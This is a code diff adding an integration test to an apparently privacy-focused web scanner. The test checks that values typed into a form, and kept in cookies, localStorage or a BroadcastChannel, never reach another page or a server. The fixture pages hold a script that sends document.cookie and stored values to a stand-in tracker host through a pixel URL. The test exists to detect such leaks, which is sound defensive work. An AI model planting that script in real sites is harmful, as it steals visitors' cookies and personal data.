@@ -605,6 +605,130 @@ async fn nothing_typed_leaves_the_browser_and_every_tracker_leak_is_still_named(
     assert!(leak("meta", "sha256"), "{:#?}", report.findings);
 }
 
+/// A page that keeps what is typed instead of sending it: into a cookie, local storage and a
+/// BroadcastChannel, then pings the site. The probe types into a copy of the page in a browser
+/// context of its own, so nothing typed reaches the jar or storage the scan's other pages share
+/// (they send whatever they find to a tracker), the copy's own same-site request is held back
+/// for the cookie it would carry, and the copy still starts with the visitor's cookies and
+/// storage.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_typed_value_the_page_keeps_never_reaches_another_page_or_request() {
+    const OTHERS: usize = 8;
+    // Every other page sends the tracker whatever the jar, storage or channel hold.
+    let snoop = format!(
+        r#"<script>
+        const send = (what) => {{ new Image().src = 'https://{TT}/api/v2/pixel?' + what; }};
+        send('lead=' + encodeURIComponent(localStorage.getItem('lead')) + '&jar=' + encodeURIComponent(document.cookie));
+        new BroadcastChannel('lead').onmessage = (e) => send('heard=' + encodeURIComponent(e.data));
+        setTimeout(() => fetch('/still-here'), 400);
+        </script>"#
+    );
+    let links: String = (1..=OTHERS)
+        .map(|i| format!(r#"<a href="/other{i}">Other {i}</a> "#))
+        .collect();
+    let mut site = Site::new()
+        .page(
+            C,
+            "/",
+            &html(&format!(
+                r#"<a href="/contact">Contact</a> {links}
+                <script>document.cookie = 'visitor=v1; path=/; max-age=3600';
+                localStorage.setItem('visitor', 'v1');</script>"#
+            )),
+        )
+        .page(
+            C,
+            "/contact",
+            &html(
+                r#"<form id="lead"><input id="email" type="email" name="email"><button>Send</button></form>
+                <script>
+                const email = document.getElementById('email');
+                email.addEventListener('focus', () => fetch('/seen?visitor=' + localStorage.getItem('visitor')
+                  + '&cookie=' + document.cookie.includes('visitor=v1')), {once: true});
+                const keep = () => {
+                  // A request on its way while the value is written: judged paused before the
+                  // write, it must not pick the cookie up when it is let go (or, paused after
+                  // it, it is held back for the cookie). Without pinned headers this leaked.
+                  fetch('/race');
+                  document.cookie = 'lead=' + encodeURIComponent(email.value) + '; path=/; max-age=3600';
+                  localStorage.setItem('lead', email.value);
+                  new BroadcastChannel('lead').postMessage(email.value);
+                };
+                email.addEventListener('input', keep);
+                document.getElementById('lead').addEventListener('submit', (e) => {
+                  e.preventDefault(); keep(); setTimeout(() => fetch('/ping'), 100);
+                });
+                </script>"#,
+            ),
+        )
+        .handler(C, "/seen", |_| Response::status(204))
+        .handler(C, "/ping", |_| Response::status(204))
+        .handler(C, "/race", |_| Response::status(204))
+        .handler(C, "/still-here", |_| Response::status(204))
+        .handler(TT, "/api/v2/pixel", |_| Response::status(204));
+    for i in 1..=OTHERS {
+        site = site.page(C, &format!("/other{i}"), &html(&snoop));
+    }
+    let server = FixtureServer::start(site).await.unwrap();
+    let report = scan(&options(&server, &format!("https://{C}/"))).await;
+    assert_eq!(report.pages.len(), OTHERS + 2);
+    assert_eq!(report.summary.pages_errored, 0, "{:#?}", report.pages);
+    let contact = page(&report, "/contact");
+    assert_eq!(contact.probed_fields, 1);
+
+    tokio::time::sleep(Duration::from_millis(1000)).await;
+    let leaked = server.canaries_received(&report.canaries);
+    assert!(
+        leaked.is_empty(),
+        "typed values reached a server: {leaked:?}"
+    );
+
+    // The copy's own ping would have carried the cookie the page wrote: held back, and why
+    // (the paused request may show the Cookie header, or the jar is asked for it).
+    assert!(
+        contact.blocked_submissions.iter().any(|b| {
+            b.starts_with(&format!("GET https://{C}/ping ("))
+                && (b.contains("carries a typed canary value")
+                    || b.contains("its cookies carry a typed canary value"))
+        }),
+        "{:#?}",
+        contact.blocked_submissions
+    );
+    // The copy started as the visitor: the home page's cookie and storage were there.
+    let seen: Vec<String> = server
+        .requests()
+        .iter()
+        .filter(|r| r.target.starts_with("/seen"))
+        .map(|r| r.target.clone())
+        .collect();
+    assert_eq!(seen, ["/seen?visitor=v1&cookie=true"]);
+    // The page's record holds its load once and the probe after it.
+    let documents = contact
+        .requests
+        .iter()
+        .filter(|r| r.resource_type == "Document" && r.url.ends_with("/contact"))
+        .count();
+    assert_eq!(documents, 1, "{:#?}", contact.requests);
+    assert!(
+        contact
+            .requests
+            .iter()
+            .any(|r| r.url.contains("/seen?visitor=v1") && r.phase == "probe"),
+        "{:#?}",
+        contact.requests
+    );
+    // Pages visited after the probe still had the visitor's own cookie, never the typed one.
+    for p in report.pages.iter().filter(|p| p.url.contains("/other")) {
+        let pixel = p
+            .requests
+            .iter()
+            .find(|r| r.host == TT && r.url.contains("lead="))
+            .unwrap_or_else(|| panic!("{}: the tracker was not called", p.url));
+        assert!(pixel.url.contains("visitor%3Dv1"), "{}", pixel.url);
+        assert!(!pixel.url.contains("lead%3D"), "{}", pixel.url);
+    }
+}
+
 /// A chat widget holds a socket open on every page, and many pages have a form. Each probe on
 /// such a page parks its tab (frames it queued must never be released), and a browser holds
 /// only a few parked tabs: after that the browser is replaced, not reused with WebSockets
